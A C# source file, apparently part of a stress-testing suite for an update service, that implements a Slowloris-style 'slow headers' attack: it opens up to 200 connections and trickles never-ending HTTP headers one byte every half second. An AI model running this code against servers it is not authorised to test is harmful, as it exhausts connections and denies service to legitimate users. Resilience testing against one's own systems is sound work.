using System.Text;

namespace UpdateService.Attacks.Sockets;

/// <summary>Requests whose headers come byte by byte and never end.</summary>
internal static class SlowHeaders
{
    private const int Many = 200;

    public static Task RunAsync(Target target) => target.RepeatAsync(target.Number(0, Many), async _ =>
    {
        using var client = await target.ConnectAsync();
        await using var stream = await target.OpenAsync(client);
        await stream.WriteAsync(Encoding.ASCII.GetBytes($"GET {Target.Graph} HTTP/1.1\r\nHost: a\r\nX-A: "), target.Ending);
        while (!target.IsOver)
        {
            await Task.Delay(500, target.Ending);
            await stream.WriteAsync("b"u8.ToArray(), target.Ending);
        }
    });
}
